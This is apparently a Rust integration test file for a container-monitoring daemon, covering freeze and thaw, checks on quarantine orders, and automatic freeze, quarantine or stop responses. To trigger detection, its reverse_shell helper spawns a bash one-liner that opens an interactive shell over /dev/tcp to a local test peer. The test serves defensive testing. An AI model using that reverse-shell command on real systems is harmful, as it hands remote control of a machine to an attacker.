//! Freeze and thaw, orders and their guard rails, and responses that findings bring about.

use crate::container::{Container, Group};
use crate::daemon::{ALERT_WAIT, Daemon, Settings, outcome, program};
use crate::engine::serve;
use crate::lab::Peer;
use crate::{pace, shared};
use anyhow::{Result, ensure};
use monitor::container::hierarchy;
use std::fs;
use std::process::{Child, Command};
use std::time::{Duration, Instant};

/// Counts, and leaves the number in a file.
const COUNTER: &str = "i=0; while :; do i=$((i+1)); echo $i > /tmp/n; done";

/// Ends what it holds.
struct Ends(Child);

impl Drop for Ends {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn number(container: &Container) -> String {
    fs::read_to_string(container.path("/tmp/n")).unwrap_or_default()
}

/// Does the counter stand still?
fn stands(container: &Container) -> bool {
    let before = number(container);
    std::thread::sleep(Duration::from_millis(500));
    number(container) == before
}

/// Does it go on?
fn goes_on(container: &Container) -> bool {
    let (before, deadline) = (number(container), Instant::now() + pace::wait(Duration::from_secs(5)));
    while number(container) == before {
        if Instant::now() > deadline {
            return false;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    true
}

/// What the kernel says of its first process.
fn state(container: &Container) -> String {
    let read = |name: &str| fs::read_to_string(format!("/proc/{}/{name}", container.init())).unwrap_or_default();
    format!("{} {}", read("stat"), read("cgroup"))
}

fn gets(daemon: &Daemon, order: &str, container: &str, code: i32, words: &str) -> Result<()> {
    let (status, said) = daemon.order(order, container)?;
    ensure!(status == Some(code) && said.contains(words), "{order} {container}: {status:?} {said}\n{}", daemon.log());
    Ok(())
}

/// On v1 by the freezer controller, on v2 by cgroup.freeze: as far as this host has both, by both.
pub fn freeze_stops_and_thaw_resumes() -> Result<()> {
    let hide_v1 = "for m in $(awk '$3 == \"cgroup\" {print $2}' /proc/mounts); do umount $m; done";
    let mounted = fs::read_to_string("/proc/self/mountinfo")?;
    let v1 = hierarchy::v1(&mounted, "freezer").map(|_| ("", "cgroup v1 freezer"));
    let v2 = hierarchy::unified(&mounted).map(|_| (hide_v1, "cgroup v2 freezer"));
    ensure!(v1.is_some() || v2.is_some(), "this host has no freezer");
    let has_v1 = v1.is_some();
    for (prelude, by) in v1.into_iter().chain(v2) {
        // Nothing need be hidden from it where there is one kind only.
        let watch = if prelude.is_empty() || !has_v1 { Some(shared::watch("monitor")?) } else { None };
        match watch {
            Some(watch) => freezes(&watch.daemon, &watch.group, by)?,
            None => {
                let group = Group::make()?;
                let settings = Settings { prelude: prelude.into(), ..Settings::mode("monitor") };
                freezes(&Daemon::start(&group, &settings)?, &group, by)?;
            }
        }
    }
    Ok(())
}

fn freezes(daemon: &Daemon, group: &Group, by: &str) -> Result<()> {
    let container = Container::start(group)?;
    let _counter = Ends(container.spawn(COUNTER)?);
    ensure!(goes_on(&container), "the counter does not count");
    let begun = Instant::now();
    gets(daemon, "freeze", container.id(), 0, by)?;
    let took = begun.elapsed();
    ensure!(stands(&container), "{by}: it still counts");
    let status = daemon.status()?;
    ensure!(status["frozen"].as_array().is_some_and(|list| list.len() == 1), "status: {}", status["frozen"]);
    gets(daemon, "freeze", container.id(), 1, "frozen already")?;
    gets(daemon, "thaw", container.id(), 0, by)?;
    ensure!(goes_on(&container), "{by}: it does not go on: {}", state(&container));
    gets(daemon, "thaw", container.id(), 1, "not frozen")?;
    let those = |action: &str| daemon.responses_about(action, container.id());
    daemon.await_row("second thaw", ALERT_WAIT, |_| those("thaw").len() == 2)?;
    let (frozen, thawed) = (those("freeze"), those("thaw"));
    ensure!(frozen.len() == 2 && thawed.len() == 2, "not all on record: {frozen:?} {thawed:?}");
    let duration = &frozen[0]["event"]["duration"];
    eprintln!("{by}: frozen {took:?} after the start of the command; {duration} ns in the daemon");
    Ok(())
}

/// Who is meant, who may not be touched, what survives a reload, and what the end of a container ends.
pub fn orders_are_checked_and_on_record() -> Result<()> {
    let group = Group::make()?;
    let elsewhere = Group::make()?;
    let daemon = Daemon::start(&group, &Settings::mode("monitor"))?;
    let (one, _two) = (Container::start(&group)?, Container::start(&group)?);
    let outside = Container::start(&elsewhere)?;
    gets(&daemon, "quarantine", "nobody", 64, "no running container")?;
    gets(&daemon, "quarantine", "7e57", 64, "containers begin with")?;
    gets(&daemon, "freeze", "host", 1, "host itself")?;
    gets(&daemon, "freeze", outside.id(), 1, "out of the scope")?;
    gets(&daemon, "release", one.id(), 1, "not quarantined")?;
    gets(&daemon, "quarantine", &one.id()[..40], 0, "cut off")?;
    gets(&daemon, "quarantine", one.id(), 1, "quarantined already")?;
    let call = |container: &Container| -> Result<bool> {
        let port = container.listen()?;
        let script = format!("exec 3<>/dev/tcp/127.0.0.1/{}", port.local_addr()?.port());
        Ok(container.run(&format!("bash -c '{script}'"))?.success())
    };
    ensure!(!call(&one)?, "a quarantined container connects");
    ensure!(call(&outside)?, "another container is cut off too");
    daemon.reload(&daemon.config(&Settings::mode("monitor")))?;
    daemon.await_row("reloaded notice", Duration::from_secs(5), |row| row["event"]["action"] == "reloaded")?;
    ensure!(!call(&one)?, "the reload has ended the quarantine");
    let refused = daemon.responses("quarantine").iter().filter(|row| row["event"]["outcome"] == "failure").count();
    ensure!(refused == 3, "{refused} refused orders on record: {:?}", daemon.responses("quarantine"));
    drop(one);
    let deadline = Instant::now() + Duration::from_secs(5);
    while daemon.status()?["quarantined"] != serde_json::json!([]) {
        ensure!(Instant::now() < deadline, "the end of the container does not end its quarantine");
        std::thread::sleep(Duration::from_millis(50));
    }
    let output = Command::new(program()?).args(["thaw", "x", "--socket", "/nonexistent/c.sock"]).output()?;
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    ensure!(output.status.code() == Some(1) && said.contains("no daemon answers"), "{said}");
    Ok(())
}

fn reverse_shell(container: &Container, hold: Duration) -> Result<(Ends, Peer)> {
    let commands = "sleep 1\ntouch /tmp/effect\necho stolen\n";
    let peer = Peer::shell(container.listen()?, commands, hold)?;
    let script = format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{} 0>&1'", peer.port);
    Ok((Ends(container.spawn(&script)?), peer))
}

/// As configured: the container of a reverse shell is frozen, cut off, or stopped by the engine.
pub fn findings_freeze_quarantine_and_stop() -> Result<()> {
    for (action, expected) in [("freeze", "frozen"), ("quarantine", "quarantined"), ("stop", "refused")] {
        let group = Group::make()?;
        let actions = format!("reverse_shell = \"{action}\"");
        let daemon = Daemon::start(&group, &Settings { actions, ..Settings::mode("protect") })?;
        let container = Container::start(&group)?;
        let (_shell, peer) = reverse_shell(&container, Duration::from_secs(4))?;
        let alert = daemon.await_alert("reverse_shell", container.id())?;
        ensure!(outcome(&alert) == expected, "{action}: {}", alert["bulkhead"]);
        let row = daemon.await_response(action)?;
        ensure!(row["bulkhead"]["response"]["finding_id"] == alert["event"]["id"], "{row}");
        ensure!(row["bulkhead"]["response"]["finding_kind"] == "reverse_shell", "{row}");
        if action == "stop" {
            ensure!(row["message"].as_str().is_some_and(|m| m.contains("no container engine")), "{row}");
            continue;
        }
        let so_far = peer.received();
        std::thread::sleep(Duration::from_secs(2));
        ensure!(peer.received() == so_far, "{action}: the attacker goes on receiving");
        // A command that was on its way is run by a shell that is only cut off; a frozen one runs nothing.
        ensure!(action == "quarantine" || !container.path("/tmp/effect").exists(), "{action}: the command ran");
        if action == "freeze" {
            gets(&daemon, "thaw", container.id(), 0, "runs again")?;
        }
    }
    stopped_by_the_engine()
}

fn stopped_by_the_engine() -> Result<()> {
    let group = Group::make()?;
    let container = Container::start(&group)?;
    let folder = tempfile::tempdir()?;
    let socket = folder.path().join("engine.sock");
    let id = container.id();
    serve(
        &socket,
        &format!(
            r#"[{{"Id":"{id}","Names":["/web"],"Image":"tomcat","ImageID":"sha256:x","State":"running","Labels":{{}}}}]"#
        ),
    )?;
    let engine = format!("docker = true\ndocker_socket = \"{}\"", socket.display());
    let actions = "reverse_shell = \"stop\"".to_owned();
    let daemon = Daemon::start(&group, &Settings { engine, actions, ..Settings::mode("protect") })?;
    let (_shell, _peer) = reverse_shell(&container, Duration::from_secs(2))?;
    let alert = daemon.await_alert("reverse_shell", id)?;
    ensure!(outcome(&alert) == "stopping", "{}", alert["bulkhead"]);
    let row = daemon.await_response("stop")?;
    ensure!(row["event"]["outcome"] == "success" && row["container"]["name"] == "web", "{row}");
    ensure!(row["bulkhead"]["response"]["finding_id"] == alert["event"]["id"], "{row}");
    Ok(())
}
